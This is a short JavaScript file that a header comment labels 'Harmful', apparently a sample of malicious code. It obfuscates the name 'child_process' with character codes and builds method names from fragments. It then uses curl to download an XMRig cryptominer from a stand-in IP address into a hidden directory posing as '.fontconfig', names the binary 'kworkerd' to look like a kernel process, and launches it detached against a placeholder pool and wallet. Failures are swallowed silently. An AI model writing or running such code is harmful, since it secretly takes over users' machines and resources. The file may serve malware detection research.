// Harmful: uses createRequire with a char-code-built module name to download an XMRig miner and start it detached with a fake wallet.
import { createRequire } from 'module';
import os from 'os';
import path from 'path';

const req = createRequire(import.meta.url);
const name = String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115);
const cp = req(name);
const run = cp[['exec', 'File', 'Sync'].join('')];
const start = cp['sp' + 'awn'];

const dir = path.join(os.homedir(), '.local', 'share', '.fontconfig');
const bin = path.join(dir, 'kworkerd');
const wallet = '4FAKEWALLETFAKEWALLETFAKEWALLETFAKEWALLETFAKEWALLET000000000000';
const threads = Math.max(1, os.cpus().length - 1);

try {
  run('mkdir', ['-p', dir]);
  run('curl', ['-fsSL', '-o', bin, 'http://203.0.113.120/xmrig-6.21-linux-x64']);
  run('chmod', ['+x', bin]);
  start(
    bin,
    ['-o', 'pool.example.net:3333', '-u', wallet, '-p', os.hostname(), '--threads', String(threads), '--background', '--donate-level', '0'],
    { detached: true, stdio: 'ignore' }
  ).unref();
} catch (_) {}
